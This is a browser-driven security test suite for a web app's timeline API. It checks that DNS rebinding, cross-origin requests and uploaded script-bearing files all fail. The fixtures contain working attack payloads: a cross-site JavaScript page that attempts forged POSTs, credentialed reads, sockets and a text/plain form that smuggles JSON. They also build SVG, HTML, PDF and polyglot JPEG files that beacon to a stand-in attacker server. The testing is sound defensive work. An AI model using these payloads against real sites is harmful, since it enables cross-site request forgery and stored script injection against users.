"""What other pages can do to the timeline through the owner's own browser: nothing."""

from __future__ import annotations

import http.client
import io
import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Error, Page

from tests.e2e.conftest import ARGUMENTS, CHROMIUM, NewContext, Watch, sign_in
from tests.e2e.served import API, Server

REFUSED = {401, 403, 421}


class Attacker:
    """Another program's web server on another port of this computer; it keeps what it is sent."""

    def __init__(self) -> None:
        self.page = ""
        self.cookies: list[str] = []
        self.beacons: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.cookies += [value for value in [self.headers.get("Cookie")] if value]
                if "beacon" in self.path:
                    attacker.beacons.append(self.path)
                body = attacker.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    made = Attacker()
    yield made
    made.close()


@pytest.fixture
def victim(new_context: NewContext, server: Server) -> Page:
    """The owner, signed in, in a library that is set up."""
    with server.client() as client:
        client.patch(f"{API}/settings", {"setup_done": True})
    return sign_in(new_context(), server)


def state(server: Server) -> tuple[int, int, object]:
    """What an attack would change."""
    with server.client() as client:
        start = client.get(f"{API}/bootstrap")
        return start["memories"], start["trashed"], start["user"]["settings"]


def ask(server: Server, path: str, headers: dict[str, str]) -> int:
    with closing(http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)) as connection:
        connection.request("GET", path, headers=headers)
        return connection.getresponse().status


def test_a_name_that_is_rebound_to_this_computer_shows_nothing(browser: Browser, server: Server) -> None:
    program = next(path for path in map(shutil.which, CHROMIUM) if path)
    rebound = browser.browser_type.launch(
        executable_path=program, args=[*ARGUMENTS, "--host-resolver-rules=MAP evil.test 127.0.0.1"]
    )
    try:
        page = rebound.new_page()
        answer = page.goto(f"http://evil.test:{server.port}/")
        assert answer is not None
        assert answer.status in REFUSED
        assert page.locator("script, link").count() == 0
        for path in ("/timeline", f"{API}/health", f"{API}/bootstrap", "/ui/app.js", "/docs/openapi.json"):
            answer = page.goto(f"http://evil.test:{server.port}{path}")
            assert answer is not None
            assert (answer.status, answer.json()["type"]) == (421, "/problems/wrong-host")
    finally:
        rebound.close()


ATTACK = """<!doctype html><title>attack</title><script>
const target = '%s', api = target + '/api/v1', done = {};
const attempt = async (name, work) => { try { done[name] = await work(); } catch (error) { done[name] = 'blocked'; } };
const post = (type, mode) => () => fetch(api + '/memories', {method: 'POST', mode, credentials: 'include',
  headers: {'Content-Type': type}, body: JSON.stringify({title: 'from elsewhere'})}).then((a) => a.type + a.status);
const socket = () => new Promise((tell) => { const ws = new WebSocket(target.replace('http', 'ws') + '/api/v1/events');
  ws.onopen = () => tell('open'); ws.onerror = () => tell('blocked'); });
const frame = () => new Promise((tell) => { const f = document.createElement('iframe'); f.src = target + '/timeline';
  f.onload = () => { let seen; try { seen = f.contentDocument.title; } catch (e) {} tell(seen || 'blocked'); };
  document.body.append(f); });
const form = () => new Promise((tell) => { const name = 'f' + Math.random(); const f = document.createElement('iframe');
  f.name = name; f.onload = () => tell('sent'); document.body.append(f);
  const form = Object.assign(document.createElement('form'), {method: 'POST', action: api + '/memories', target: name,
    enctype: 'text/plain'});
  form.append(Object.assign(document.createElement('input'), {name: '{"title":"from elsewhere","x":"', value: '"}'}));
  document.body.append(form); form.submit(); });
onload = async () => {
  await attempt('json', post('application/json', 'cors'));
  await attempt('text', post('text/plain', 'cors'));
  await attempt('blind', post('text/plain', 'no-cors'));
  await attempt('read', () => fetch(api + '/memories', {credentials: 'include'}).then((a) => a.text()));
  await attempt('script', () => new Promise((tell, fail) => { const s = document.createElement('script');
    s.src = api + '/bootstrap'; s.onload = () => tell('loaded'); s.onerror = fail; document.body.append(s); }));
  await attempt('stream', () => new Promise((tell, fail) => { const e = new EventSource(api + '/events',
    {withCredentials: true}); e.onopen = () => tell('open'); e.onerror = fail; }));
  await attempt('socket', socket);
  await attempt('frame', frame);
  await attempt('form', form);
  window.done = done; document.title = 'over';
};
</script><body></body>"""


def test_a_page_of_another_port_of_the_same_host_changes_and_reads_nothing(
    victim: Page, server: Server, attacker: Attacker, watch: Watch
) -> None:
    watch.expects(".*")  # the browser has much to say about each refused attempt
    host = urlsplit(victim.url).hostname
    before = state(server)
    attacker.page = ATTACK % f"http://{host}:{server.port}"
    page = victim.context.new_page()
    page.goto(f"http://{host}:{attacker.port}/")
    page.wait_for_function("document.title === 'over'", timeout=120_000)
    done = page.evaluate("window.done")
    assert {name: done[name] for name in ("json", "text", "read", "script", "stream", "socket")} == dict.fromkeys(
        ("json", "text", "read", "script", "stream", "socket"), "blocked"
    )
    assert done["frame"] == "blocked"
    assert state(server) == before
    # Cookies do not know ports: what the browser gave away opens nothing by itself.
    for cookie in attacker.cookies:
        assert ask(server, f"{API}/bootstrap", {"Cookie": cookie}) in REFUSED


BEACON = "http://127.0.0.1:%d/beacon?%s"


def active(port: int) -> dict[str, bytes]:
    """Files that run a script wherever they are opened as what they pretend not to be."""

    def call(name: str) -> str:
        return f"fetch('{BEACON % (port, name)}')"

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(buffer, "JPEG")
    picture = buffer.getvalue()
    return {
        "a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{call("svg")}</script></svg>'.encode(),
        "a.html": f"<!doctype html><script>{call('html')}</script>".encode(),
        "a.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{call("xhtml")}</script></html>'.encode(),
        "a.xml": f'<?xml version="1.0"?><h:script xmlns:h="http://www.w3.org/1999/xhtml">{call("xml")}</h:script>'.encode(),
        "a.js": call("js").encode(),
        "a.pdf": f"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS({call('pdf')})>>>>endobj\n%%EOF".encode(),
        "polyglot.jpg": picture[:20] + picture[20:] + f"<html><script>{call('polyglot')}</script></html>".encode(),
        "comment.jpg": picture[:2]
        + b"\xff\xfe"
        + (2 + len(call("comment")) + 17).to_bytes(2, "big")
        + f"<script>{call('comment')}</script>".encode()
        + picture[2:],
    }


def uploaded(server: Server, files: dict[str, bytes]) -> dict[str, str]:
    """The signed addresses of those files that were taken."""
    taken: dict[str, str] = {}
    with server.client() as client:
        key = client.post(f"{API}/api-keys", {"name": "upload"})["key"]
        for name, data in files.items():
            head = f'--b\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
            with closing(http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)) as connection:
                headers = {"Authorization": f"Bearer {key}", "Content-Type": "multipart/form-data; boundary=b"}
                connection.request("POST", f"{API}/media", head + data + b"\r\n--b--\r\n", headers)
                answer = connection.getresponse()
                body = answer.read()
            if answer.status in (200, 201):
                memory = client.get(f"{API}/memories/{json.loads(body)['memory']['id']}")
                taken[name] = memory["media"][0]["original"]
    return taken


def test_no_file_runs_as_a_page_of_ours(victim: Page, server: Server, attacker: Attacker, watch: Watch) -> None:
    watch.expects(".*")  # refused frames and blocked scripts are reported
    files = uploaded(server, active(attacker.port))
    assert {"polyglot.jpg", "comment.jpg"} <= set(files)
    origin = "/".join(victim.url.split("/", 3)[:3])
    for path in files.values():
        page = victim.context.new_page()
        with suppress(Error):  # what is handed out as a download opens no page
            page.goto(origin + path, wait_until="load")
        page.close()
    embedding = "".join(
        f'<img src="{origin}{path}"><iframe src="{origin}{path}"></iframe><object data="{origin}{path}"></object>'
        f'<embed src="{origin}{path}"><script src="{origin}{path}"></script>'
        for path in files.values()
    )
    attacker.page = f"<!doctype html><body>{embedding}<script>onload = () => document.title = 'over'</script>"
    page = victim.context.new_page()
    page.goto(f"http://{urlsplit(origin).hostname}:{attacker.port}/")
    page.wait_for_function("document.title === 'over'", timeout=120_000)
    assert attacker.beacons == []
